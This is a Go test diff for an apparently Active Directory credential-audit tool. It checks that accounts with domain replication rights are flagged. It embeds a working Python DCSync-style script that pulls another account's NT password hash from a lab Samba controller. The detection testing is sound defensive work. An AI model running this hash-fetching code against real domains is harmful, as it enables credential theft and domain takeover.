@@ -15,6 +15,7 @@ import (
 	"rollcall/config"
 	"rollcall/internal/credential"
 	"rollcall/internal/directory"
+	"rollcall/internal/directory/adacl"
 	"rollcall/internal/lab"
 )
 
@@ -37,6 +38,16 @@ func startDomain(t *testing.T, accounts []lab.Account) *lab.Samba {
 // listDomain lists what a manifest and a filter find in the domain.
 func listDomain(t *testing.T, s *lab.Samba, accept []config.Accept, filter string, rows ...string) *credential.Roll {
 	t.Helper()
+	return listDomainBy(t, s, func(c *config.Campaign) { c.Accept = accept }, filter, rows...)
+}
+
+func listDomainWithout(t *testing.T, s *lab.Samba, e config.Exclude, filter string) *credential.Roll {
+	t.Helper()
+	return listDomainBy(t, s, func(c *config.Campaign) { c.Exclude = append(c.Exclude, e) }, filter)
+}
+
+func listDomainBy(t *testing.T, s *lab.Samba, more func(*config.Campaign), filter string, rows ...string) *credential.Roll {
+	t.Helper()
 	servers(t)
 	d := config.Directory{
 		Driver: config.ActiveDirectory, Servers: []string{s.LDAPS()}, Base: s.BaseDN(), CA: s.CA,
@@ -48,7 +59,7 @@ func listDomain(t *testing.T, s *lab.Samba, accept []config.Accept, filter strin
 	require.NoError(t, err)
 	t.Cleanup(func() { require.NoError(t, client.Close()) })
 	c := campaign()
-	c.Accept = accept
+	more(c)
 	c.Directories = map[string]config.Directory{"ad": d}
 	c.Sources = []config.Source{manifestSource(append([]string{"directory,account,path"}, rows...)...)}
 	if filter != "" {
@@ -145,9 +156,11 @@ func TestADomainsAccountsAreFoundByAllTheirNames(t *testing.T) {
 	require.Equal(t, credential.OwnIdentity, got[s.BinderDN].Problem)
 
 	protected := got[s.AdminDN]
-	require.Len(t, roll.Findings[protected.ID], 2)
-	require.Equal(t, credential.FindingResetsOthers, roll.Findings[protected.ID][0].Code)
-	require.Equal(t, credential.FindingProtected, roll.Findings[protected.ID][1].Code)
+	var codes []credential.FindingCode
+	for _, f := range roll.Findings[protected.ID] {
+		codes = append(codes, f.Code)
+	}
+	require.Equal(t, []credential.FindingCode{credential.FindingReadsOthers, credential.FindingResetsOthers, credential.FindingProtected}, codes)
 	require.Len(t, roll.Credentials, 6+3+1+1+6)
 
 	whoMayResetGoesFirst(t, s, admin)
@@ -196,6 +209,8 @@ func whoMayResetGoesFirst(t *testing.T, s *lab.Samba, admin *ldap.Conn) {
 		require.NotEqual(t, credential.FindingResetsHidden, w.Code)
 	}
 
+	whoMayFetchPasswordsGoesBeforeAll(t, s, admin)
+
 	require.NoError(t, s.AddACE(t.Context(), dn("svc0003"), s.BinderDN, "(D;;RC;;;%s)"))
 	said := 0
 	for _, w := range listDomain(t, s, nil, "(sAMAccountName=svc000*)").Warnings {
@@ -206,6 +221,81 @@ func whoMayResetGoesFirst(t *testing.T, s *lab.Samba, admin *ldap.Conn) {
 	}
 	require.Equal(t, 1, said, "once, for all that are not shown")
 }
+
+// whoMayFetchPasswordsGoesBeforeAll: an account may replicate the domain's
+// secrets, as those of directory synchronisation and backup may.
+func whoMayFetchPasswordsGoesBeforeAll(t *testing.T, s *lab.Samba, admin *ldap.Conn) {
+	reader, other := s.AccountDN("svc0005"), s.AccountDN("svc0006")
+	for _, right := range []string{"1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", adacl.ReplicateAll} {
+		require.NoError(t, s.AddACE(t.Context(), s.BaseDN(), reader, "(OA;;CR;"+right+";;%s)"))
+	}
+	password, err := s.ResetOnce(t.Context(), "svc0006")
+	require.NoError(t, err)
+	out, err := s.RunInside(t.Context(), "/usr/bin/python3", "-c", fetchesHash, s.Config(), "svc0005", s.SeededPassword("svc0005"), other, password)
+	require.NoError(t, err, "%s", out)
+	require.Contains(t, string(out), "SAME", "whoever stole it has the hash of each new password")
+
+	roll := listDomain(t, s, nil, "(sAMAccountName=svc000*)", "ad,Administrator,")
+	got := byName(roll)
+	require.True(t, got[reader].ReadsOthers)
+	require.Equal(t, "may-reset-others", roll.Waves[got[reader].Wave].Name)
+	for _, c := range roll.Credentials {
+		switch {
+		case c.Own || c.Problem != "":
+		case c.Name == reader || c.Name == s.AdminDN: // an administrator may do the same
+			require.Zero(t, c.Wave, c.Name)
+			require.True(t, c.ReadsOthers)
+		case len(details(roll, c.ID, credential.FindingResetsOthers)) > 0: // by its organizational unit it could reset the reader
+			require.False(t, c.ReadsOthers)
+		default:
+			require.NotZero(t, c.Wave, c.Name)
+			require.False(t, c.ReadsOthers)
+		}
+	}
+	require.Contains(t, details(roll, got[reader].ID, credential.FindingReadsOthers), "DS-Replication-Get-Changes-All on the domain")
+
+	// One that is left out has each new password all the same.
+	c := config.Exclude{Account: reader, Reason: "the synchronisation needs it"}
+	left := listDomainWithout(t, s, c, "(sAMAccountName=svc000*)")
+	said := ""
+	for _, w := range left.Warnings {
+		if w.Code == credential.FindingReadsOthers {
+			said = w.Detail
+		}
+	}
+	require.Contains(t, said, reader+" may fetch the hashes of all passwords of ad")
+	require.Positive(t, left.Incomplete())
+}
+
+// fetchesHash logs in to a domain controller as an account, asks it for another
+// one by replication ([MS-DRSR] 4.1.10, EXOP_REPL_OBJ), and says whether the
+// hash that comes is the one of a password.
+const fetchesHash = `
+import sys
+from samba.credentials import Credentials
+from samba.param import LoadParm
+from samba import drs_utils
+from samba.dcerpc import drsuapi, misc
+from samba.net import Net
+conf, user, secret, dn, password = sys.argv[1:]
+lp = LoadParm(); lp.load(conf)
+c = Credentials(); c.guess(lp); c.set_username(user); c.set_domain("EXAMPLE"); c.set_password(secret)
+d = drsuapi.drsuapi("ncacn_ip_tcp:127.0.0.1[seal]", lp, c)
+h, _ = drs_utils.drs_DsBind(d)
+r = drsuapi.DsGetNCChangesRequest8()
+r.destination_dsa_guid, r.source_dsa_invocation_id = misc.GUID("00000000-0000-0000-0000-000000000001"), misc.GUID()
+r.naming_context = drsuapi.DsReplicaObjectIdentifier(); r.naming_context.dn = dn
+r.highwatermark = drsuapi.DsReplicaHighWaterMark()
+r.replica_flags = drsuapi.DRSUAPI_DRS_INIT_SYNC | drsuapi.DRSUAPI_DRS_WRIT_REP
+r.max_object_count, r.max_ndr_size, r.extended_op = 1, 402116, drsuapi.DRSUAPI_EXOP_REPL_OBJ
+_, ctr = d.DsGetNCChanges(h, 8, r)
+o = ctr.first_object.object
+for a in o.attribute_ctr.attributes:
+    if a.attid == drsuapi.DRSUAPI_ATTID_unicodePwd:
+        Net(creds=c, lp=lp).replicate_decrypt(d, a, int(str(o.identifier.sid).split("-")[-1]))
+        f = Credentials(); f.set_password(password)
+        print("SAME" if bytes(a.value_ctr.values[0].blob) == bytes(f.get_nt_hash()) else "OTHER")
+`
 
 func guidOf(t *testing.T, s *lab.Samba, dn string) string {
 	t.Helper()
